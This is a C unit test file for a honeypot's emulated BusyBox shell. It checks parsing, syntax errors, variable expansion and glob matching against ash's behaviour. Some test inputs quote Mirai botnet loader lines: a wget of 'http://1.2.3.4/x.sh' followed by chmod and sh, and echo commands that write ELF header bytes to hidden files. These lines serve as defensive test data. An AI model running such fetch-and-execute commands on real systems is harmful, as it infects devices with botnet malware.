/*
 * mamori-trap's shell language: the parser's structure and its syntax
 * errors, word expansion and globbing. Every expected value was taken from
 * BusyBox 1.35's ash (`busybox sh -c`, or its interactive mode for what an
 * open line does) and from fnmatch(3) for patterns; the test itself runs
 * neither.
 */
#include <fnmatch.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "mamori/buf.h"
#include "mamori/error.h"

#include "sh.h"

#define N(a) (sizeof(a) / sizeof((a)[0]))

/* The variables every expansion case sees (ash: X="a  b"; E=; S="*" ...). */
static const char *const vars[][2] = {
	{"X", "a  b"}, {"E", ""}, {"S", "*"}, {"N", "3"}, {"P", "/tmp/x.tar.gz"},
	{"L", " lead trail "}, {"?", "0"}, {"#", "0"}, {"0", "sh"}, {"$", "1234"},
};

static const char *var(void *arg, const char *name, size_t n)
{
	size_t i;

	(void)arg;
	for (i = 0; i < N(vars); i++)
		if (strlen(vars[i][0]) == n && memcmp(vars[i][0], name, n) == 0)
			return vars[i][1];
	return NULL;
}

static int subst_echo(void *arg, const char *text, size_t n, struct mm_buf *out);
static const struct trap_sh_env env = {var, subst_echo, NULL};

/* A shell that knows only echo, run through the parser and the expander
 * themselves: what $(echo ...) gives is then what ash's would. */
static int subst_echo(void *arg, const char *text, size_t n, struct mm_buf *out)
{
	struct trap_sh_arena a;
	struct trap_sh_list *l;
	struct mm_buf f;
	size_t i, j, k, nf, argc;
	int rc, glob;

	(void)arg;
	trap_sh_arena_init(&a, 64 << 10);
	mm_buf_init(&f, 64 << 10);
	rc = trap_sh_parse(&a, text, n, &l, NULL, 0);
	for (i = 0; rc == 0 && i < l->n; i++) {
		struct trap_sh_cmd *c = &l->item[i].pipe.cmd[0];

		mm_buf_reset(&f);
		for (j = 0, argc = 0; rc == 0 && j < c->nword; j++, argc += nf)
			rc = trap_sh_expand(&c->word[j], &env, &f, &nf, &glob);
		if (rc < 0 || argc == 0 || strcmp(f.data, "echo") != 0)
			continue;
		for (k = 5, j = 1; rc == 0 && j < argc; j++) {
			if (j > 1)
				rc = mm_buf_putc(out, ' ');
			if (rc == 0)
				rc = mm_buf_puts(out, f.data + k);
			k += strlen(f.data + k) + 1;
		}
		if (rc == 0)
			rc = mm_buf_putc(out, '\n');
	}
	mm_buf_free(&f);
	trap_sh_arena_free(&a);
	return rc == TRAP_SH_ESYNTAX ? 0 : rc;
}

/* Writes a parse as text: W{word} A{assignment} R{fd op target}, '|'
 * between commands, the connector after each item. */
static void dump(const struct trap_sh_list *l, struct mm_buf *b)
{
	static const char *const ops[] = {">", ">>", "<", ">&"};
	static const char *const conn[] = {";", "&&", "||", "&"};
	size_t i, j, k;

	for (i = 0; i < l->n; i++) {
		const struct trap_sh_pipeline *p = &l->item[i].pipe;

		if (p->negate)
			mm_buf_puts(b, "! ");
		for (j = 0; j < p->ncmd; j++) {
			const struct trap_sh_cmd *c = &p->cmd[j];

			if (j > 0)
				mm_buf_puts(b, "| ");
			for (k = 0; k < c->nassign; k++)
				mm_buf_printf(b, "A{%.*s} ", (int)c->assign[k].len,
					      c->assign[k].text);
			for (k = 0; k < c->nword; k++)
				mm_buf_printf(b, "W{%.*s} ", (int)c->word[k].len, c->word[k].text);
			for (k = 0; k < c->nredir; k++)
				mm_buf_printf(b, "R{%d%s%.*s} ", c->redir[k].fd,
					      ops[c->redir[k].op], (int)c->redir[k].target.len,
					      c->redir[k].target.text);
		}
		mm_buf_printf(b, "%s\n", conn[l->item[i].next]);
	}
}

static const struct {
	const char *line;
	const char *want;
} parse_ok[] = {
	{"", ""},
	{"# only a comment", ""},
	{"echo a; ls -l && x || y &", "W{echo} W{a} ;\nW{ls} W{-l} &&\nW{x} ||\nW{y} &\n"},
	/* Mirai's loader and bot lines. */
	{"/bin/busybox echo -e '\\x41\\x4b\\x34\\x37' > /tmp/.nippon; "
	 "/bin/busybox cat /tmp/.nippon",
	 "W{/bin/busybox} W{echo} W{-e} W{'\\x41\\x4b\\x34\\x37'} R{1>/tmp/.nippon} ;\n"
	 "W{/bin/busybox} W{cat} W{/tmp/.nippon} ;\n"},
	{"cd /tmp || cd /var/run || cd /mnt; wget http://1.2.3.4/x.sh; chmod 777 x.sh; sh x.sh",
	 "W{cd} W{/tmp} ||\nW{cd} W{/var/run} ||\nW{cd} W{/mnt} ;\n"
	 "W{wget} W{http://1.2.3.4/x.sh} ;\nW{chmod} W{777} W{x.sh} ;\nW{sh} W{x.sh} ;\n"},
	{"echo -ne '\\x7f\\x45\\x4c\\x46' >> dvrHelper && echo ok",
	 "W{echo} W{-ne} W{'\\x7f\\x45\\x4c\\x46'} R{1>>dvrHelper} &&\nW{echo} W{ok} ;\n"},
	/* Operators inside quotes and substitutions do not split. */
	{"echo a\\;b \"c;d\" 'e|f' `g;h` $(i && j) ${X:-;} #c",
	 "W{echo} W{a\\;b} W{\"c;d\"} W{'e|f'} W{`g;h`} W{$(i && j)} W{${X:-;}} ;\n"},
	{"echo \"$(echo \")\")\" a#b", "W{echo} W{\"$(echo \")\")\"} W{a#b} ;\n"},
	{"echo $((1+2)) $( echo x )", "W{echo} W{$((1+2))} W{$( echo x )} ;\n"},
	{"A=1 B=$(x) cmd a=b >f 2>&1 <in >>app",
	 "A{A=1} A{B=$(x)} W{cmd} W{a=b} R{1>f} R{2>&1} R{0<in} R{1>>app} ;\n"},
	{"X=1 >f Y=2", "A{X=1} A{Y=2} R{1>f} ;\n"},
	{">f", "R{1>f} ;\n"},
	/* >&FILE sends both outputs to FILE. */
	{"echo >&file", "W{echo} R{1>file} R{2>&1} ;\n"},
	{"echo 2>&- 3<&0 4<>x >|y", "W{echo} R{2>&-} R{3>&0} R{4<x} R{1>y} ;\n"},
	/* Up to nine digits name an fd; ten are a word. */
	{"echo a 123456789>x 1234567890>y",
	 "W{echo} W{a} W{1234567890} R{123456789>x} R{1>y} ;\n"},
	{"echo \"1\">x \\2>y", "W{echo} W{\"1\"} W{\\2} R{1>x} R{1>y} ;\n"},
	{"! a | b |\n\nc", "! W{a} | W{b} | W{c} ;\n"},
	{"a &&\n# c\nb", "W{a} &&\nW{b} ;\n"},
	{"\necho a\n\necho b;\n", "W{echo} W{a} ;\nW{echo} W{b} ;\n"},
	{"echo a \\\n b", "W{echo} W{a} W{b} ;\n"},
	/* Reserved words count only where a command begins. */
	{"echo if then { }", "W{echo} W{if} W{then} W{{} W{}} ;\n"},
	{"X=1 if; >x then", "A{X=1} W{if} ;\nW{then} R{1>x} ;\n"},
	{"\"if\" x", "W{\"if\"} W{x} ;\n"},
	{"echo a&&echo b||echo c", "W{echo} W{a} &&\nW{echo} W{b} ||\nW{echo} W{c} ;\n"},
};

static void parse_structure(void **state)
{
	struct trap_sh_arena a;
	struct trap_sh_list *l;
	struct mm_buf b;
	char err[128];
	size_t i;

	(void)state;
	for (i = 0; i < N(parse_ok); i++) {
		const char *want = parse_ok[i].want;

		trap_sh_arena_init(&a, 64 << 10);
		mm_buf_init(&b, 4096);
		if (trap_sh_parse(&a, parse_ok[i].line, strlen(parse_ok[i].line), &l, err,
				  sizeof err) != 0)
			fail_msg("%s: %s", parse_ok[i].line, err);
		dump(l, &b);
		if (strcmp(b.data != NULL ? b.data : "", want) != 0)
			fail_msg("%s: got\n%s\nwant\n%s", parse_ok[i].line, b.data, want);
		assert_true(a.used <= a.max);
		mm_buf_free(&b);
		trap_sh_arena_free(&a);
	}
}

static const struct {
	const char *line;
	int rc;
	const char *err; /* ash's message after "sh: " */
} parse_bad[] = {
	{"| echo", TRAP_SH_ESYNTAX, "syntax error: unexpected \"|\""},
	{"echo a ||| b", TRAP_SH_ESYNTAX, "syntax error: unexpected \"|\""},
	{"echo ;;", TRAP_SH_ESYNTAX, "syntax error: unexpected \";;\""},
	{"echo a; ; b", TRAP_SH_ESYNTAX, "syntax error: unexpected \";\""},
	{"&& echo", TRAP_SH_ESYNTAX, "syntax error: unexpected \"&&\""},
	{"echo >", TRAP_SH_ESYNTAX, "syntax error: unexpected newline"},
	{"echo 2>&", TRAP_SH_ESYNTAX, "syntax error: unexpected newline"},
	{"echo > ;", TRAP_SH_ESYNTAX, "syntax error: unexpected \";\""},
	{"echo a > |", TRAP_SH_ESYNTAX, "syntax error: unexpected \"|\""},
	{"echo a > >b", TRAP_SH_ESYNTAX, "syntax error: unexpected redirection"},
	{"echo a & & b", TRAP_SH_ESYNTAX, "syntax error: unexpected \"&\""},
	{"echo a &;", TRAP_SH_ESYNTAX, "syntax error: unexpected \";\""},
	{";", TRAP_SH_ESYNTAX, "syntax error: unexpected \";\""},
	{"&", TRAP_SH_ESYNTAX, "syntax error: unexpected \"&\""},
	{"then", TRAP_SH_ESYNTAX, "syntax error: unexpected \"then\""},
	{"echo a; fi", TRAP_SH_ESYNTAX, "syntax error: unexpected \"fi\""},
	{"echo a\ndone", TRAP_SH_ESYNTAX, "syntax error: unexpected \"done\""},
	{"esac", TRAP_SH_ESYNTAX, "syntax error: unexpected \"esac\""},
	{"elif", TRAP_SH_ESYNTAX, "syntax error: unexpected \"elif\""},
	{"in", TRAP_SH_ESYNTAX, "syntax error: unexpected \"in\""},
	{"}", TRAP_SH_ESYNTAX, "syntax error: unexpected \"}\""},
	{"echo )", TRAP_SH_ESYNTAX, "syntax error: unexpected \")\""},
	{"echo (", TRAP_SH_ESYNTAX, "syntax error: unexpected newline (expecting \")\")"},
	{"f( x", TRAP_SH_ESYNTAX, "syntax error: unexpected word (expecting \")\")"},
	{"echo a (b)", TRAP_SH_ESYNTAX, "syntax error: unexpected \"(\""},
	{"!", TRAP_SH_ESYNTAX, "syntax error: unexpected newline"},
	{"! ! true", TRAP_SH_ESYNTAX, "syntax error: unexpected \"!\""},
	{"echo a | ! b", TRAP_SH_ESYNTAX, "syntax error: unexpected \"!\""},
	{"echo ${!X}", TRAP_SH_ESYNTAX, "syntax error: bad substitution"},
	{"echo ${}", TRAP_SH_ESYNTAX, "syntax error: bad substitution"},
	{"echo ${ X}", TRAP_SH_ESYNTAX, "syntax error: bad substitution"},
	{"echo $(echo a |)", TRAP_SH_ESYNTAX, "syntax error: unexpected \")\""},
	{"echo $(;)", TRAP_SH_ESYNTAX, "syntax error: unexpected \";\""},
	/* What the emulation does not run, refused in ash's words for the
	 * token (ash itself would run these). */
	{"if true; then echo x; fi", TRAP_SH_ESYNTAX, "syntax error: unexpected \"if\""},
	{"for i in 1; do echo; done", TRAP_SH_ESYNTAX, "syntax error: unexpected \"for\""},
	{"while :; do :; done", TRAP_SH_ESYNTAX, "syntax error: unexpected \"while\""},
	{"{ echo a; }", TRAP_SH_ESYNTAX, "syntax error: unexpected \"{\""},
	{"(echo a)", TRAP_SH_ESYNTAX, "syntax error: unexpected \"(\""},
	{"f() { echo; }", TRAP_SH_ESYNTAX, "syntax error: unexpected \"(\""},
	{"cat <<EOF", TRAP_SH_ESYNTAX, "syntax error: unexpected redirection"},
	/* An interactive ash prints "> " and reads on. */
	{"echo \"abc", TRAP_SH_EINCOMPLETE, ""},
	{"echo 'abc", TRAP_SH_EINCOMPLETE, ""},
	{"echo a |", TRAP_SH_EINCOMPLETE, ""},
	{"echo a &&", TRAP_SH_EINCOMPLETE, ""},
	{"echo a ||\n", TRAP_SH_EINCOMPLETE, ""},
	{"echo \\", TRAP_SH_EINCOMPLETE, ""},
	{"echo `echo", TRAP_SH_EINCOMPLETE, ""},
	{"echo $(echo", TRAP_SH_EINCOMPLETE, ""},
	{"echo ${X", TRAP_SH_EINCOMPLETE, ""},
};

static void parse_errors(void **state)
{
	struct trap_sh_arena a;
	struct trap_sh_list *l;
	char err[128];
	size_t i;

	(void)state;
	for (i = 0; i < N(parse_bad); i++) {
		int rc;

		trap_sh_arena_init(&a, 64 << 10);
		rc = trap_sh_parse(&a, parse_bad[i].line, strlen(parse_bad[i].line), &l, err,
				   sizeof err);
		if (rc != parse_bad[i].rc || strcmp(err, parse_bad[i].err) != 0)
			fail_msg("%s: got %d \"%s\", want %d \"%s\"", parse_bad[i].line, rc, err,
				 parse_bad[i].rc, parse_bad[i].err);
		trap_sh_arena_free(&a);
	}
}

/* ash drops NUL bytes from its input; a short err buffer is cut, not
 * overrun; the arena's bound refuses a line too big for it. */
static void parse_limits(void **state)
{
	static const char line[] = "ec\0ho a\0b";
	struct trap_sh_arena a;
	struct trap_sh_list *l;
	struct mm_buf b, big;
	char err[8];
	size_t i;

	(void)state;
	trap_sh_arena_init(&a, 64 << 10);
	mm_buf_init(&b, 256);
	assert_int_equal(trap_sh_parse(&a, line, sizeof line - 1, &l, err, sizeof err), 0);
	dump(l, &b);
	assert_string_equal(b.data, "W{echo} W{ab} ;\n");
	assert_int_equal(trap_sh_parse(&a, "|", 1, &l, err, sizeof err), TRAP_SH_ESYNTAX);
	assert_string_equal(err, "syntax ");
	trap_sh_arena_free(&a);
	mm_buf_free(&b);

	mm_buf_init(&big, 1 << 20);
	for (i = 0; i < 20000; i++)
		assert_int_equal(mm_buf_puts(&big, "a "), 0);
	trap_sh_arena_init(&a, 16 << 10);
	assert_int_equal(trap_sh_parse(&a, big.data, big.len, &l, NULL, 0), TRAP_SH_ETOOBIG);
	assert_true(a.used <= a.max);
	trap_sh_arena_free(&a);
	assert_int_equal(a.used, 0);
	assert_null(trap_sh_alloc(&a, 1 << 20));
	assert_non_null(trap_sh_alloc(&a, 100));
	trap_sh_arena_free(&a);
	/* Nested $( ) past what the parser follows. */
	mm_buf_reset(&big);
	for (i = 0; i < 40; i++)
		mm_buf_puts(&big, "$(");
	for (i = 0; i < 40; i++)
		mm_buf_puts(&big, ")");
	trap_sh_arena_init(&a, 1 << 20);
	assert_int_equal(trap_sh_parse(&a, big.data, big.len, &l, NULL, 0), TRAP_SH_ETOOBIG);
	trap_sh_arena_free(&a);
	mm_buf_free(&big);
}

static const struct {
	const char *word;
	const char *want; /* the fields, each in <> */
	size_t n;
	int glob;
} expand_cases[] = {
	{"abc", "<abc>", 1, 0},
	{"'a  b'", "<a  b>", 1, 0},
	{"\"a  b\"", "<a  b>", 1, 0},
	{"a\\ b", "<a b>", 1, 0},
	{"$X", "<a><b>", 2, 0},
	{"\"$X\"", "<a  b>", 1, 0},
	{"x$X\"y\"", "<xa><by>", 2, 0},
	{"$E", "", 0, 0},
	{"$U", "", 0, 0},
	{"\"$E\"", "<>", 1, 0},
	{"\"\"", "<>", 1, 0},
	{"''", "<>", 1, 0},
	{"$E\"\"", "<>", 1, 0},
	{"\"$U\"x", "<x>", 1, 0},
	{"${X}", "<a><b>", 2, 0},
	{"${#X}", "<4>", 1, 0},
	{"${#U}", "<0>", 1, 0},
	{"${U:-d e}", "<d><e>", 2, 0},
	{"\"${U:-d  e}\"", "<d  e>", 1, 0},
	{"${U:-\"d  e\" f}", "<d  e><f>", 2, 0},
	{"${E-q}x", "<x>", 1, 0},
	{"${E:-q}", "<q>", 1, 0},
	{"${U-q}", "<q>", 1, 0},
	{"${X:+alt}", "<alt>", 1, 0},
	{"${U:+alt}", "", 0, 0},
	{"${P#*/}", "<tmp/x.tar.gz>", 1, 0},
	{"${P##*/}", "<x.tar.gz>", 1, 0},
	{"${P%.*}", "</tmp/x.tar>", 1, 0},
	{"${P%%.*}", "</tmp/x>", 1, 0},
	{"\"$L\"", "< lead trail >", 1, 0},
	{"$L", "<lead><trail>", 2, 0},
	{"a${L}b", "<a><lead><trail><b>", 4, 0},
	{"$S", "<*>", 1, 1},
	{"\"$S\"", "<*>", 1, 0},
	{"*.c", "<*.c>", 1, 1},
	{"\"*\".c", "<*.c>", 1, 0},
	{"\\*", "<*>", 1, 0},
	{"x[ab]", "<x[ab]>", 1, 1},
	{"$(echo hi)", "<hi>", 1, 0},
	{"\"$(echo \"a  b\")\"", "<a  b>", 1, 0},
	{"$(echo \"a  b\")", "<a><b>", 2, 0},
	{"$(echo a; echo b)x", "<a><bx>", 2, 0},
	{"`echo hi`", "<hi>", 1, 0},
	{"\"`echo \\\"q\\\"`\"", "<q>", 1, 0},
	{"$(echo $(echo nested))", "<nested>", 1, 0},
	{"$( )x", "<x>", 1, 0},
	{"$((1+2*3))", "<7>", 1, 0},
	{"$((N*2))", "<6>", 1, 0},
	{"$(( (1+2) << 2 ))", "<12>", 1, 0},
	{"$((7%3-(2>1)))", "<0>", 1, 0},
	{"$", "<$>", 1, 0},
	{"$.", "<$.>", 1, 0},
	{"\"$\"", "<$>", 1, 0},
	{"a$", "<a$>", 1, 0},
	{"\\$X", "<$X>", 1, 0},
	{"\"\\$X\"", "<$X>", 1, 0},
	{"\"\\a\"", "<\\a>", 1, 0},
	{"'\\a'", "<\\a>", 1, 0},
	{"$10", "<0>", 1, 0},
	{"$?$#$0", "<00sh>", 1, 0},
	{"\"a\\\nb\"", "<ab>", 1, 0},
	{"a\\\nb", "<ab>", 1, 0},
	{"a'b'\"c\"\\d", "<abcd>", 1, 0},
	{"${X:-'a'}", "<a><b>", 2, 0},
	{"\"${U:-'a'}\"", "<'a'>", 1, 0},
	{"$N$N", "<33>", 1, 0},
	{"-n", "<-n>", 1, 0},
	{"'\\x41\\x4b'", "<\\x41\\x4b>", 1, 0},
};

static void fields_text(const struct mm_buf *b, size_t n, struct mm_buf *t)
{
	size_t i, k;

	for (i = 0, k = 0; k < n; k++) {
		mm_buf_printf(t, "<%s>", b->data + i);
		i += strlen(b->data + i) + 1;
	}
}

static void expand_words(void **state)
{
	struct mm_buf b, t;
	size_t i, n;
	int glob;

	(void)state;
	for (i = 0; i < N(expand_cases); i++) {
		struct trap_sh_word w = {expand_cases[i].word, strlen(expand_cases[i].word)};

		mm_buf_init(&b, 4096);
		mm_buf_init(&t, 4096);
		n = 99;
		glob = -1;
		assert_int_equal(trap_sh_expand(&w, &env, &b, &n, &glob), 0);
		fields_text(&b, n, &t);
		if (n != expand_cases[i].n || glob != expand_cases[i].glob ||
		    strcmp(t.data != NULL ? t.data : "", expand_cases[i].want) != 0)
			fail_msg("%s: got %s (%zu, glob %d), want %s (%zu, glob %d)",
				 expand_cases[i].word, t.data, n, glob, expand_cases[i].want,
				 expand_cases[i].n, expand_cases[i].glob);
		mm_buf_free(&b);
		mm_buf_free(&t);
	}
}

/* A redirection's target and an assignment's value are not split: ash's
 * X="a  b"; Y=$X keeps both blanks, > $X writes "a  b". */
static void expand_one_field(void **state)
{
	static const struct {
		const char *word, *want;
	} cases[] = {
		{"$X", "a  b"}, {"\"$X\"x", "a  bx"}, {"$L", " lead trail "}, {"$E", ""},
		{"/tmp/$N.sh", "/tmp/3.sh"}, {"$(echo a; echo b)", "a\nb"},
	};
	struct mm_buf b;
	size_t i;

	(void)state;
	for (i = 0; i < N(cases); i++) {
		struct trap_sh_word w = {cases[i].word, strlen(cases[i].word)};

		mm_buf_init(&b, 256);
		assert_int_equal(mm_buf_puts(&b, "pre:"), 0);
		assert_int_equal(trap_sh_expand_one(&w, &env, &b), 0);
		assert_int_equal(b.len, 4 + strlen(cases[i].want));
		assert_memory_equal(b.data + 4, cases[i].want, strlen(cases[i].want));
		mm_buf_free(&b);
	}
}

/* Each substitution runs the word it is given again, and appends "+". */
static int subst_again(void *arg, const char *text, size_t n, struct mm_buf *out)
{
	const struct trap_sh_env *e = arg;
	struct trap_sh_word w = {text, n};
	int rc = trap_sh_expand_one(&w, e, out);

	return rc == 0 ? mm_buf_putc(out, '+') : rc;
}

static int subst_fail(void *arg, const char *text, size_t n, struct mm_buf *out)
{
	(void)arg;
	(void)text;
	(void)n;
	(void)out;
	return MM_EIO;
}

static size_t count_nul(const struct mm_buf *b)
{
	size_t i, n = 0;

	for (i = 0; i < b->len; i++)
		n += b->data[i] == '\0';
	return n;
}

static void expand_limits(void **state)
{
	struct trap_sh_env e = {var, subst_again, NULL};
	struct trap_sh_env bad = {var, subst_fail, NULL};
	struct trap_sh_env none = {NULL, NULL, NULL};
	struct trap_sh_word w;
	struct mm_buf b, word;
	size_t i, n;
	int glob;

	(void)state;
	e.arg = &e;
	/* Twelve nested substitutions: eight run, the deeper ones give nothing. */
	mm_buf_init(&word, 256);
	for (i = 0; i < 12; i++)
		mm_buf_puts(&word, "x$(");
	for (i = 0; i < 12; i++)
		mm_buf_puts(&word, ")");
	w.text = word.data;
	w.len = word.len;
	mm_buf_init(&b, 256);
	assert_int_equal(trap_sh_expand(&w, &e, &b, &n, &glob), 0);
	assert_int_equal(n, 1);
	assert_string_equal(b.data, "xxxxxxxxx++++++++");
	mm_buf_free(&b);
	mm_buf_free(&word);

	/* A failing substitution fails the expansion and leaves out as it was. */
	w.text = "a$(x)b";
	w.len = strlen(w.text);
	mm_buf_init(&b, 256);
	mm_buf_puts(&b, "keep");
	assert_int_equal(trap_sh_expand(&w, &bad, &b, &n, &glob), MM_EIO);
	assert_int_equal(b.len, 4);
	assert_string_equal(b.data, "keep");
	/* No env: variables are unset, substitutions empty. */
	mm_buf_reset(&b);
	w.text = "a$X$(x)`y`b";
	w.len = strlen(w.text);
	assert_int_equal(trap_sh_expand(&w, &none, &b, &n, &glob), 0);
	assert_int_equal(n, 1);
	assert_string_equal(b.data, "ab");
	mm_buf_free(&b);

	/* The output's bound. */
	mm_buf_init(&b, 4);
	w.text = "$X$X$X";
	w.len = strlen(w.text);
	assert_int_equal(trap_sh_expand(&w, &env, &b, &n, &glob), MM_ETOOBIG);
	assert_int_equal(b.len, 0);
	mm_buf_free(&b);
	/* Text the parser would refuse still expands within its bounds. */
	static const char *const odd[] = {"\"abc", "'abc", "$(echo", "${X", "`a", "a\\",
					  "${!X}", "$((", "$((1/0))", "${#", "\"${U:-\"a\"}\""};
	for (i = 0; i < N(odd); i++) {
		w.text = odd[i];
		w.len = strlen(odd[i]);
		mm_buf_init(&b, 256);
		assert_int_equal(trap_sh_expand(&w, &env, &b, &n, &glob), 0);
		assert_int_equal(count_nul(&b), n);
		mm_buf_free(&b);
	}
}

static const struct {
	const char *pattern, *name;
	int match;
} globs[] = {
	{"*", "dvrHelper", 1},
	{"*", ".nippon", 0},
	{".*", ".nippon", 1},
	{"?nippon", ".nippon", 0},
	{"[.]nippon", ".nippon", 0},
	{"*.sh", "x.sh", 1},
	{"*.sh", "x.shx", 0},
	{"a*b*c", "aXbYbZc", 1},
	{"a*b*c", "aXbYbZ", 0},
	{"x?", "x", 0},
	{"x?", "xy", 1},
	{"[abc]x", "bx", 1},
	{"[!abc]x", "bx", 0},
	{"[^abc]x", "dx", 1},
	{"[a-c]", "b", 1},
	{"[a-c]", "d", 0},
	{"[]]", "]", 1},
	{"[!]]", "a", 1},
	{"[", "[", 1},
	{"[ab", "[ab", 1},
	{"\\*", "*", 1},
	{"\\*", "a", 0},
	{"[[:digit:]]*", "7z", 1},
	{"[[:alpha:]]", "7", 0},
	{"*/*", "a/b", 1},
	{"", "", 1},
	{"", "a", 0},
	{"**", "", 1},
};

static void glob_matches(void **state)
{
	size_t i;

	(void)state;
	for (i = 0; i < N(globs); i++) {
		int got = trap_sh_glob_match(globs[i].pattern, globs[i].name);
		int ref = fnmatch(globs[i].pattern, globs[i].name, FNM_PERIOD) == 0;

		if (got != globs[i].match || ref != globs[i].match)
			fail_msg("%s ~ %s: got %d, fnmatch %d, want %d", globs[i].pattern,
				 globs[i].name, got, ref, globs[i].match);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(parse_structure), cmocka_unit_test(parse_errors),
		cmocka_unit_test(parse_limits),    cmocka_unit_test(expand_words),
		cmocka_unit_test(expand_one_field), cmocka_unit_test(expand_limits),
		cmocka_unit_test(glob_matches),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
